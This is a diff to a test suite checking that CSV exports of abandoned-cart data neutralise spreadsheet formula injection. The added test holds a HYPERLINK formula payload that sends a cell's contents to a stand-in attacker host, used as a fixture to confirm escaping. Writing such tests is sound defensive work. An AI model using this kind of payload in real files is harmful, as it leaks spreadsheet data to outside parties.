@@ -71,10 +71,11 @@ describe.each(ENGINES)('CSV answers on %s neutralise cells a spreadsheet would r
       expect(text.split('\n')[2]).toBe("'@tools,decreased,1,-4,0,0");
     });
 
-    it('the audience: the cart id is quoted text', async () => {
+    it('the audience: the cart id and the lines naming the product are quoted text', async () => {
+      const name = `'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")`;
       expect(await csv(`/v1/audiences/abandoned-carts?as_of=${AS_OF}&format=csv`)).toBe(
-        'cart_id,customer_id,anonymous_id,stage,value_minor,currency,items,units,channel,campaign,consent_marketing,started_at,last_activity_at,checkout_started_at,abandoned_at,lines\n' +
-          "'-2+3,c1,anon-b,cart,1000,EUR,1,1,web,,1,2026-03-02T10:00:00.000Z,2026-03-02T10:05:00.000Z,,2026-03-03T10:05:00.000Z,P1x1\n",
+        'cart_id,customer_id,anonymous_id,stage,value_minor,currency,items,units,channel,campaign,consent_marketing,started_at,last_activity_at,checkout_started_at,abandoned_at,lines,product_ids,product_names,quantities,line_values_minor\n' +
+          `'-2+3,c1,anon-b,cart,1000,EUR,1,1,web,,1,2026-03-02T10:00:00.000Z,2026-03-02T10:05:00.000Z,,2026-03-03T10:05:00.000Z,"${name} × 1 = 10.00 EUR",P1,"${name}",1,1000\n`,
       );
     });
 
